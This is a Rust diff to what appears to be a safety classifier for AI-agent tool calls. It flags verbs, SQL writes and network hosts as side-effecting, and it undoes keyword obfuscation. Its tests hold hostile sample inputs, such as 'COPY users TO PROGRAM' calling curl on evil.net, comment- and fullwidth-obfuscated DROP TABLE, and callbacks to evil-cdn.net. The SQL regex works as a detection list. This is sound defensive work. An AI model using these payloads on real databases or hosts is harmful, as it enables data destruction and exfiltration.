@@ -138,6 +138,26 @@ pub(crate) const WRITE_VERBS: &[&str] = &[
     "accept",
     "decline",
     "confirm",
+    // What a device, an alert or an account is switched to.
+    "toggle",
+    "arm",
+    "disarm",
+    "mute",
+    "unmute",
+    "silence",
+    "pause",
+    "release",
+    "activate",
+    "deactivate",
+    "escalate",
+    "impersonate",
+    "drain",
+    "failover",
+    "suspend",
+    "block",
+    "unblock",
+    "unsubscribe",
+    "subscribe",
 ];
 
 /// The writing verbs that are as often nouns or adjectives ("the file type", "order history",
@@ -148,7 +168,7 @@ const NOUNS_TOO: &[&str] = &[
     "book", "invite", "share", "edit", "change", "run", "stop", "start", "reply", "forward",
     "order", "purchase", "grant", "reset", "commit", "push", "merge", "store", "mark", "archive",
     "close", "open", "click", "type", "press", "drag", "drop", "clear", "empty", "deposit", "sign",
-    "place",
+    "place", "toggle", "arm", "silence", "pause", "release", "drain", "failover", "block",
 ];
 
 /// Irregular past forms of writing verbs.
@@ -423,7 +443,10 @@ fn name_effect(name: &str) -> Effect {
     // What follows `and`/`or`/`then`: another action if it starts with a writing verb, else
     // more of the object (`ListFilesAndFolders`).
     for part in parts {
-        if part.first().is_some_and(writes) || part.iter().any(writes_always) {
+        // An action's verb of any kind starts another action (`lookup_and_block_user`).
+        let acts =
+            |x: &String| writes(x) || super::authority::names_an_action(std::slice::from_ref(x));
+        if part.first().is_some_and(acts) || part.iter().any(writes_always) {
             return Effect::SideEffecting;
         }
     }
@@ -456,13 +479,47 @@ pub fn name_acts(name: &str) -> bool {
     name_effect(unqualified(name)) == Effect::SideEffecting
 }
 
-/// A statement that changes a database, wherever an argument carries one.
+/// A statement that changes a database or reaches past it, wherever an argument carries one:
+/// the writing statements of SQL in their dialects (T-SQL's `DELETE users`, `MERGE`,
+/// `REPLACE INTO`, `UPSERT`), calls of procedures, copies to and from files and programs, a
+/// `SELECT … INTO`, administration (`KILL`, `SHUTDOWN`, `SET GLOBAL`, `PRAGMA`), and the
+/// writes of other query languages (Cypher's `DETACH DELETE`, Mongo's `.drop(`, Redis's
+/// `FLUSHALL`, GraphQL's `mutation`). Read after [`sql_as_run`] undoes what hides a keyword.
 static SQL_WRITE: std::sync::LazyLock<Option<regex::Regex>> = std::sync::LazyLock::new(|| {
     regex::Regex::new(
-        r"(?i)\b(?:(?:drop|truncate|alter)\s+(?:table|database|schema|index|view|user|role)|delete\s+from|insert\s+into|update\s+\S+\s+set|grant\s+\w+|revoke\s+\w+|create\s+(?:table|user|role|database))\b",
+        r#"(?i)\b(?:drop\s+(?:table|database|schema|index|view|user|role|function|procedure|trigger|extension|column|constraint)\b|truncate\s+(?:table\s+)?[\w."\[\]]+\s*(?:;|$)|alter\s+(?:table|database|schema|index|view|user|role|system|session)\b|delete\s+(?:from|top)\b|delete\s+[\w."\[\]]+\s*(?:where\b|;|$)|insert\s+into\b|insert\s+[\w."\[\]]+\s*(?:\(|values\b|select\b)|update\s+\S+\s+set\b|merge\s+into\b|merge\s+[\w.]+\s+(?:as\s+\w+\s+)?using\b|replace\s+into\b|upsert\b|grant\s+[\w, ]+\s+(?:on|to)\b|revoke\s+[\w, ]+\s+(?:on|from)\b|create\s+(?:or\s+replace\s+)?(?:temp\w*\s+)?(?:table|view|user|role|database|schema|index|function|procedure|trigger|extension)\b|rename\s+(?:table|column|database|user)\b|call\s+[\w.]+\s*\(|exec(?:ute)?\s+[\w.]+\s*(?:@\w|'|\(|;|$)|xp_\w+|sp_\w+|copy\s+[\w.()]+\s+(?:to|from)\s+(?:program|stdout|stdin|'|")|into\s+(?:out|dump)file|load\s+data|load_extension|attach\s+database|vacuum\s+into|select\s[\s\S]*?\binto\s+[\w.#@]+\s+from\b|lo_(?:export|import)|unload\s*\(|export\s+data\b|backup\s+(?:database|log)\b|dblink_exec|kill\s+(?:query\s+|connection\s+)?\d+|shutdown\s*(?:;|$)|reset\s+master|purge\s+(?:binary|master)\s+logs|set\s+global\b|pragma\s+\w+\s*=|lock\s+tables?\b|reindex\b|detach\s+delete|flushall|flushdb|mutation\s*\w*\s*[({]|pg_terminate_backend|pg_cancel_backend|set_config\s*\(|setval\s*\(|pg_read_file|sys_exec)|\.(?:drop|deleteone|deletemany|remove)\s*\("#,
     )
     .ok()
 });
+
+/// `text` as a database reads it: comments (`/* … */`, `-- …`) as `comment`, the quotes
+/// around names (`` ` ``) as spaces, fullwidth letters as ASCII — each hides a keyword from a plain search
+/// (`DR/**/OP`, `` update`users`set ``, `ＤＲＯＰ`).
+fn sql_as_run<'t>(text: &'t str, comment: &str) -> std::borrow::Cow<'t, str> {
+    let hides = |c: char| matches!(c, '/' | '`' | '-') || ('\u{ff01}'..='\u{ff5e}').contains(&c);
+    if !text.contains(hides) {
+        return std::borrow::Cow::Borrowed(text);
+    }
+    let mut out = String::with_capacity(text.len());
+    let mut rest = text;
+    while let Some(c) = rest.chars().next() {
+        if let Some(after) = rest.strip_prefix("/*") {
+            rest = after.find("*/").map_or("", |end| &after[end + 2..]);
+            out.push_str(comment);
+        } else if let Some(after) = rest.strip_prefix("--") {
+            rest = after.find('\n').map_or("", |end| &after[end..]);
+            out.push_str(comment);
+        } else {
+            out.push(match c {
+                '`' => ' ',
+                '\u{ff01}'..='\u{ff5e}' => char::from_u32(c as u32 - 0xfee0).unwrap_or(c),
+                c => c,
+            });
+            rest = &rest[c.len_utf8()..];
+        }
+    }
+    std::borrow::Cow::Owned(out)
+}
 
 /// Words of a key that say its value is a place on the network.
 const NETWORK_KEYS: &[&str] = &[
@@ -484,14 +541,36 @@ pub fn call_effect(tool: Effect, args: &Value) -> Effect {
                 let linked = ["http://", "https://", "ftp://", "ws://", "wss://"]
                     .iter()
                     .any(|scheme| lower.starts_with(scheme));
-                let hosted = !key.is_empty()
+                let network_key = !key.is_empty()
                     && words(key)
                         .iter()
-                        .any(|w| NETWORK_KEYS.contains(&w.as_str()))
-                    && t.contains('.')
-                    && !t.contains(char::is_whitespace)
-                    && !t.starts_with(['/', '.', '~']);
-                linked || hosted || SQL_WRITE.as_ref().is_none_or(|re| re.is_match(s))
+                        .any(|w| NETWORK_KEYS.contains(&w.as_str()));
+                let hosted = !t.contains(char::is_whitespace)
+                    && (t.starts_with("//")
+                        || t.starts_with("\\\\")
+                        || lower.starts_with("data:")
+                        || (t.starts_with('[') && t.contains(':'))
+                        // An IPv4 address written as one hexadecimal number, which resolvers
+                        // take (`0xcb007107`).
+                        || (lower.starts_with("0x")
+                            && t.len() == 10
+                            && t[2..].bytes().all(|b| b.is_ascii_hexdigit()))
+                        || (network_key && t.contains('.') && !t.starts_with(['/', '.', '~']))
+                        // A value that is a host or a link whatever its key (`203.0.113.7`,
+                        // `cb.evil-cdn.net`, `ftp.evil.net/x`); not under a key that names a
+                        // path, where `setup.sh` is a file.
+                        || (!super::paths::path_like(key)
+                            && super::atoms::atoms(t).iter().any(|(kind, atom)| {
+                                *kind == super::atoms::AtomKind::Link
+                                    && t.starts_with(atom.as_str())
+                            })));
+                linked
+                    || hosted
+                    || SQL_WRITE.as_ref().is_none_or(|re| {
+                        // A comment splits words for most databases and joins them for
+                        // some: read both ways.
+                        re.is_match(&sql_as_run(s, " ")) || re.is_match(&sql_as_run(s, ""))
+                    })
             }
             Value::Array(items) => items.iter().any(|i| acts(key, i)),
             Value::Object(map) => map.iter().any(|(k, v)| acts(k, v)),
@@ -568,6 +647,24 @@ mod tests {
             json!({"src": "https://kessler-pay.net/l.png?k=731904"}),
             json!({"domain": "code-731904.kessler-pay.net"}),
             json!({"link": " HTTPS://kessler-pay.net/c?d=all"}),
+            // A second attack: dialects, hidden keywords, procedures, copies out; hosts under
+            // any key, in any form.
+            json!({"sql": "MERGE INTO t USING s ON 1=1 WHEN MATCHED THEN DELETE"}),
+            json!({"sql": "DELETE TOP (100) users"}),
+            json!({"sql": "DR/**/OP TABLE users"}),
+            json!({"sql": "update`users`set admin=1"}),
+            json!({"sql": "ＤＲＯＰ TABLE users"}),
+            json!({"sql": "CALL purge_all_orders()"}),
+            json!({"sql": "COPY users TO PROGRAM 'curl evil.net'"}),
+            json!({"sql": "SELECT * INTO backup FROM users"}),
+            json!({"q": "db.users.drop()"}),
+            json!({"callback": "9f8e7d6c5b4a.evil-cdn.net"}),
+            json!({"server": "203.0.113.7"}),
+            json!({"domain": "//evil-cdn.net/c?k=1"}),
+            json!({"host": "[2001:db8::1]"}),
+            json!({"origin": "0xcb007107"}),
+            json!({"share": "\\\\evil-cdn.net\\share"}),
+            json!({"image": "data:text/html,<script>x</script>"}),
         ] {
             assert_eq!(
                 call_effect(Effect::ReadOnly, &args),
@@ -580,6 +677,9 @@ mod tests {
             json!({"path": "scripts/setup.sh"}),
             json!({"query": "how to update the table of contents"}),
             json!({"pattern": "fn main"}),
+            json!({"sql": "SELECT name, created_at FROM users WHERE updated > now() - 7"}),
+            json!({"query": "who deleted the file and how do I insert a row"}),
+            json!({"file": "docs/setup.sh"}),
         ] {
             assert_eq!(
                 call_effect(Effect::ReadOnly, &args),
@@ -592,6 +692,9 @@ mod tests {
             "check_in_guest",
             "list_for_sale",
             "view_invite_and_accept",
+            "lookup_and_block_user",
+            "check_and_disarm",
+            "status_toggle",
         ] {
             assert!(name_acts(name), "{name}");
         }
